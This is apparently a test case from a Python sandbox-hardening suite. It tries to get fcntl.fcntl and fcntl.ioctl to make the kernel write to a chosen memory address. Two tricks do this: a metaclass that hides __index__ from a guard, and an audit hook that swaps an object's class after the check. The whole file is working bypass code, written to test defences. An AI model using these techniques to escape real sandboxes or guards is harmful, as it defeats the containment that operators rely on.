# class: machine_code
# rule: native_code
# needs: x86_64
# success: the kernel writes to an address that fcntl.fcntl or fcntl.ioctl takes from an object,
#   whose class says that it has no __index__, or is exchanged for one that has it after the event
# proof: word
import fcntl
import os
import sys
import types

from attack import attempt
from low_page import low_page

F_GETOWN_EX, FIONREAD = 16, 0x541B


class Silent(type):
    def __getattribute__(cls, name):
        if name == "__index__":
            raise AttributeError(name)
        return super().__getattribute__(name)


class Number(metaclass=Silent):
    def __init__(self, value):
        self.value = value

    def __index__(self):
        return self.value


class Module(types.ModuleType):
    def __index__(self):
        return self.value


def later(value):
    """A module, whose class an audit hook exchanges behind the guard's."""
    module = types.ModuleType("later")
    module.value = value

    def exchange(event, arguments):
        if event.startswith("fcntl.") and len(arguments) > 2 and arguments[2] is module:
            module.__class__ = Module

    sys.addaudithook(exchange)
    return module


@attempt
def write():
    page, where = low_page()
    come, go = os.pipe()
    os.write(go, b"12345")
    tried = []
    for call, request, at in ((fcntl.fcntl, F_GETOWN_EX, 0), (fcntl.ioctl, FIONREAD, 64)):
        for number in (Number, later):
            page[:128] = b"\xff" * 128
            try:
                call(come, request, number(where + at))
            except OSError:
                continue
            tried.append(page[at : at + 4] != b"\xff" * 4)
    return any(tried)
